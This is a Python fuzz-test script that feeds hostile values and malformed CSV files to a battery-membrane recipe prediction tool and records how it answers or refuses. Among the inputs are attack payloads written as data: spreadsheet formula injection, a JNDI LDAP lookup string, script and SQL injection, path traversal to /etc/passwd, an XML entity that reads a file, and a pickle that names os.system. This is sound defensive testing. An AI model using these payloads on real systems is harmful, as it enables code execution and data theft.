"""The hostile inputs, made here and kept as hostile.csv beside what the tool answers, read through by a person.

    python tests/fire/hostile.py     # writes hostile.csv anew; look at what changed before you keep it

A value stands in one column of a recipe that is good otherwise; a table is a whole file of recipes. The answer is what
`predict` gives: a prediction, or the codes and columns of its faults. Bytes that are no text are kept as Python writes
them.
"""

import csv
import io
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import NamedTuple

from spcse_ml.errors import InputError
from spcse_ml.storage.champion import answering_pair
from spcse_ml.workflows.predict import predict_file, predict_recipes

KEPT = Path(__file__).with_suffix(".csv")
FIELDS = ("kind", "column", "given", "answer")

DRY = {"sulfide": "Li6PS5Cl", "method": "dry", "binder": "PTFE", "binder_wt_percent": "2"}
WET = {"sulfide": "Li6PS5Cl", "method": "slurry", "binder": "SBR", "binder_wt_percent": "2", "solvent": "toluene"}
SKELETON = {"sulfide": "Li6PS5Cl", "method": "skeleton", "template": "cellulose", "template_wt_percent": "10"}

NUMBERS = (
    "0,5", "1.000,5", "1,000", "1 000", "1'000", "\u22125", "-5", "+5", "\u00a05", "5\u00a0", "\u20095", " 5 ",
    "\uff15",
    "\u0665", "\u00bd", "1/2", "1e308", "1e309", "-0", "0", "-1e-300", "1e-400", "nan", "NaN", "inf", "-Infinity", "<5",
    "\u2264 5", ">5", "5-30", "5\u201330", "5 to 30", "~5", "\u22485", "ca. 5", "5\u00b11", "5(1)", "n.a.", "N/A", "NA",
    "null", "None", "-", "--", "?", "\u2014", "5%", "5 %", "5 wt%", "5 wt.%", "97:3", "=5", "=1+1", "@5", "+5+5", "'5",
    '=HYPERLINK("http://192.0.2.1")', "=cmd|' /C calc'!A0", "0x10", "0b1", "1_000", "5e", "e5", "five", "f\u00fcnf",
    "5 5", "5;6", "5,6", "5|6", "true", "TRUE", "", " ", "100", "100.0001", "99.9999999999999999", "1e2", ".5", "5.",
    "0.5.0", "\x00", "5\x00", "5\n6", "5\r6", "\ufeff5", "5\u200b", "\u202e5", "\U0001f50b", "9" * 400,
    "1" + "0" * 5000,
    "%s%n", "${jndi:ldap://192.0.2.1/a}", "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd", "5 mg",
    "5 vol%", "0.05 g/g", "5 kg/kg", "\x1b[31m5", "[5]", "{5}", "(5)", "5 # five", '"5"', "5;", "5\t",
)  # fmt: skip
SULFIDES = (
    "Li6PS5Cl ", "li6ps5cl", "LI6PS5CL", "Li6PS5CI", "Li\u2086PS\u2085Cl", "Li6PS5Cl\u200b", "Li6P\u0405 5Cl",
    "L\u0456PSCl",
    "=Li6PS5Cl", "-Li6PS5Cl", "+Li6PS5Cl", "@Li6PS5Cl", "LPSC", "LPSX", "H2O", "Xx2S", "Li", "Li6PS5Cl" * 30, "", "NA",
    "none", "NaN", "0", "Li6PS5Cl; DROP TABLE membranes", "\x00", "\x1b[31mLPSCl", "\u202elCSPL", "../LPSCl",
    "LPSCl\nLPSCl",
    "Li6PS5Cl0.5Br0.5", "75Li2S-25P2S5", "75Li2S\u00b725P2S5", "Li1e9PS5Cl", "Li-6PS5Cl", "Li6PS5", "Li6PS5Cl-", "-",
    "()",
    "Li6(PS5)Cl", "Li6.PS5Cl", "Li0PS5Cl", "Na3PS4", "Fe2S3", "<b>LPSCl</b>", "LPSCl,PTFE", "argyrodite", "\U0001f50b",
    "Li6PS5Cl" + "9" * 150,
)  # fmt: skip
NAMES = {
    "method": ("DRY", "dry ", "slury", "0", "dry;slurry", "", "n.a.", "=dry", "skeleton templating", "wet"),
    "binder": ("ptfe", "PTFE ", "P T F E", "PTFEE", "teflon", "unobtainium", "=PTFE", "PEO+PTFE", "", "nan", "\x00",
               "PVDF/HFP", "P(VDF-HFP)", "SBR:NBR 1:1", "x" * 10_000),
    "binder_class": ("fluoropolymer", "Fluoropolymer", "no such class", "=1", ""),
    "sulfide_family": ("argyrodite", "LGPS", "no such family", "glass", "=1"),
}  # fmt: skip
SOLVENTS = (
    "TOL", "toluene ", "toluen", "water", "H2O", "NMP", "dmf", "toluene/xylene", "toluene:DMF 50:50",
    "1,2-dichloroethane",
    "n.a.", "none", "=toluene", "\u03b1-pinene", "EtOH", "ethanol 96%", "", "108-88-3", "o-xylene",
    "acetonitrile\u200b",
)  # fmt: skip
OTHERS = {
    "donor_number_kcal_mol": ("0", "-1", "1e9", "14", "14,8", "14.8 kcal/mol", "62 kJ/mol"),
    "sigma_p_ms_cm": ("3.2", "0.0032 S/cm", "3.2 mS/cm", "0.0032", "-3", "0", "1e9", "3,2", "3.2e-3"),
    "planned_thickness_um": ("40", "40 um", "40 \u00b5m", "0.04 mm", "40 nm", "4e4", "0", "-40", "40 kg", "1e-9"),
}  # fmt: skip

HEAD = "sulfide,method,binder,binder_wt_percent,solvent"
ROW = "Li6PS5Cl,dry,PTFE,2,"
GOOD = f"{HEAD}\n{ROW}\n".encode()
TABLES: dict[str, bytes] = {
    "good": GOOD,
    "byte order mark": b"\xef\xbb\xbf" + GOOD,
    "UTF-16 LE": GOOD.decode().encode("utf-16"),
    "UTF-16 BE": b"\xfe\xff" + GOOD.decode().encode("utf-16-be"),
    "UTF-16 without mark": GOOD.decode().encode("utf-16-le"),
    "UTF-32": GOOD.decode().encode("utf-32"),
    "Latin-1": f"{HEAD},note\n{ROW},sch\u00f6n\n".encode("latin-1"),
    "overlong UTF-8": GOOD + b"Li6PS5Cl,dry,\xc0\xaf,2,\n",
    "half a surrogate": GOOD + b"Li6PS5Cl,dry,\xed\xa0\x80,2,\n",
    "NUL bytes": GOOD + b"\x00\x00\x00\n",
    "NUL in a cell": f"{HEAD}\nLi6PS5Cl,dry,PT\x00FE,2,\n".encode(),
    "NUL only": b"\x00" * 100,
    "semicolons": GOOD.replace(b",", b";"),
    "semicolons with decimal commas": f"{HEAD}\nLi6PS5Cl,dry,PTFE,2.5,\n".replace(",", ";").replace(".", ",").encode(),
    "tabs": GOOD.replace(b",", b"\t"),
    "bars": GOOD.replace(b",", b"|"),
    "spaces": GOOD.replace(b",", b" "),
    "carriage returns and newlines": GOOD.replace(b"\n", b"\r\n"),
    "carriage returns only": GOOD.replace(b"\n", b"\r"),
    "vertical tabs": GOOD.replace(b"\n", b"\x0b"),
    "line separators": GOOD.decode().replace("\n", "\u2028").encode(),
    "no last newline": GOOD.rstrip(),
    "blank lines": GOOD + b"\n\n\n" + ROW.encode() + b"\n",
    "blank lines before": b"\n\n" + GOOD,
    "lines of commas": GOOD + b",,,,\n,,,,\n",
    "column missing": b"sulfide,binder,binder_wt_percent\nLi6PS5Cl,PTFE,2\n",
    "first column missing": b"method,binder,binder_wt_percent\ndry,PTFE,2\n",
    "column doubled": b"sulfide,method,binder,binder,binder_wt_percent\nLi6PS5Cl,dry,PTFE,SBR,2\n",
    "column doubled by a synonym": b"sulfide,method,binder_wt_percent,Binder wt percent\nLi6PS5Cl,dry,2,3\n",
    "column renamed": b"powder,method,binder,binder_wt_percent\nLi6PS5Cl,dry,PTFE,2\n",
    "column misspelt": b"sulfide,method,binder,binder_wt_percnt\nLi6PS5Cl,dry,PTFE,2\n",
    "columns reordered": b"binder_wt_percent,binder,method,sulfide\n2,PTFE,dry,Li6PS5Cl\n",
    "columns in capitals": GOOD.replace(HEAD.encode(), HEAD.upper().encode()),
    "columns with spaces": GOOD.replace(b"sulfide,", b" sulfide ,"),
    "column with a hard space": GOOD.replace(b"sulfide,", b"sulfide\xc2\xa0,"),
    "column with a zero width space": GOOD.replace(b"sulfide,", b"sulfide\xe2\x80\x8b,"),
    "column without a name": b"sulfide,method,,binder_wt_percent\nLi6PS5Cl,dry,PTFE,2\n",
    "column of an answer": b"sulfide,method,retention_percent\nLi6PS5Cl,dry,99\n",
    "column that is a formula": b"=sulfide,method\nLi6PS5Cl,dry\n",
    "column named like a method of Python": b"sulfide,method,__class__\nLi6PS5Cl,dry,x\n",
    "unknown column": f"{HEAD},colour\n{ROW},red\n".encode(),
    "own note": f"{HEAD},note\n{ROW},=cmd|' /C calc'!A0\n".encode(),
    "cells too many": f"{HEAD}\n{ROW},,,7\n".encode(),
    "cells too few": f"{HEAD}\nLi6PS5Cl,dry\n".encode(),
    "open quote": f'{HEAD}\n"Li6PS5Cl,dry,PTFE,2,\n'.encode(),
    "quote in a cell": f'{HEAD}\nLi6PS5Cl,dry,PT"FE,2,\n'.encode(),
    "quoted cells": f'{HEAD}\n"Li6PS5Cl","dry","PTFE","2",""\n'.encode(),
    "single quotes": f"{HEAD}\n'Li6PS5Cl','dry','PTFE','2',\n".encode(),
    "newline in a cell": f'{HEAD}\n"Li6PS5Cl\n",dry,PTFE,2,\n'.encode(),
    "comment lines": b"# my recipes\n" + GOOD,
    "a title line": b"my recipes,,,,\n" + GOOD,
    "units in a second line": f"{HEAD}\n,,,wt%,\n{ROW}\n".encode(),
    "units mixed in a column": f"{HEAD}\n{ROW}\nLi6PS5Cl,dry,PTFE,0.02 g/g,\n".encode(),
    "two headers": GOOD + GOOD,
    "header only": f"{HEAD}\n".encode(),
    "header without newline": HEAD.encode(),
    "empty": b"",
    "a newline": b"\n",
    "a space": b" ",
    "end of file of DOS": GOOD + b"\x1a",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(range(64)),
    "XLSX by another name": b"PK\x03\x04" + bytes(range(200)),
    "PNG": b"\x89PNG\r\n\x1a\n" + bytes(range(200)),
    "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(128, 200)),
    "JSON": b'[{"sulfide": "Li6PS5Cl", "method": "dry"}]',
    "HTML": b"<html><table><tr><td>sulfide</td></tr></table></html>",
    "XML that includes a file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "pickle": b"\x80\x04\x95\x1b\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93.",
    "every byte": bytes(range(256)),
    "a thousand columns": (",".join(f"c{n}" for n in range(1000)) + "\n" + "," * 999 + "\n").encode(),
    "a cell of a million letters": f"{HEAD}\nLi6PS5Cl,dry,{'P' * 1_000_000},2,\n".encode(),
    "a thousand faults": (HEAD + "\n" + "LPSCl,dry,PTFEE,x,TOL\n" * 334).encode(),
    "the same recipe twice": GOOD + ROW.encode() + b"\n",
}  # fmt: skip


class Case(NamedTuple):
    """A hostile input: `kind` is dry, wet, skeleton (a value in such a recipe) or table; tables have a name as well."""

    kind: str
    column: str
    given: str

    @property
    def recipe(self) -> dict[str, str]:
        """Return the recipe that holds the value."""
        return {**{"dry": DRY, "wet": WET, "skeleton": SKELETON}[self.kind], self.column: self.given}

    @property
    def content(self) -> bytes:
        """Return the file."""
        return TABLES[self.column]


def cases() -> Iterator[Case]:
    """Yield every case."""
    for text in NUMBERS:
        yield Case("dry", "binder_wt_percent", text)
    for text in SULFIDES:
        yield Case("dry", "sulfide", text)
    for column, texts in NAMES.items():
        yield from (Case("dry", column, text) for text in texts)
    yield from (Case("wet", "solvent", text) for text in SOLVENTS)
    yield from (Case("dry", "solvent", text) for text in SOLVENTS[:3])
    yield from (Case("skeleton", "template_wt_percent", text) for text in ("99", "0", "1e-9", "95,5", "n.a.", ""))
    for column, texts in OTHERS.items():
        yield from (Case("wet" if column.startswith("donor") else "dry", column, text) for text in texts)
    yield from (Case("table", name, "") for name in TABLES)


def answer(case: Case, folder: Path) -> str:
    """Return the predictions, or the codes and columns of a refusal; any other exception is let through."""
    try:
        return told(predicted(case, folder))
    except InputError as error:
        return refusal((fault.code, fault.column) for fault in error.faults)


def predicted(case: Case, folder: Path) -> "object":
    """Return the table of answers to a case."""
    pair = answering_pair(folder)
    if case.kind != "table":
        return predict_recipes([case.recipe], pair, level=0.9).table
    file = folder / "recipes.csv"
    file.write_bytes(case.content)
    return predict_file(file, store=folder, level=0.9).table


def told(table: "object") -> str:
    """Return what was predicted of each recipe."""
    rows = table[["domain", "retention_percent"]].itertuples(index=False)  # type: ignore[index]
    return "; ".join(f"{domain} {value:.1f} %" for domain, value in rows)


def refusal(faults: Iterable[tuple[str, str]]) -> str:
    """Return codes with their columns, each pair once."""
    return "refused: " + "; ".join(dict.fromkeys(f"{code} {column}".strip() for code, column in faults))


def as_csv(rows: list[tuple[Case, str]]) -> str:
    """Return the table that is kept."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(FIELDS)
    for case, said in rows:
        given = case.given.encode("unicode_escape").decode()
        writer.writerow(
            [case.kind, case.column, given if len(given) < 80 else f"{given[:60]}... ({len(case.given)})", said]
        )
    return out.getvalue()


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as scratch:
        KEPT.write_text(as_csv([(case, answer(case, Path(scratch))) for case in cases()]), encoding="utf-8")
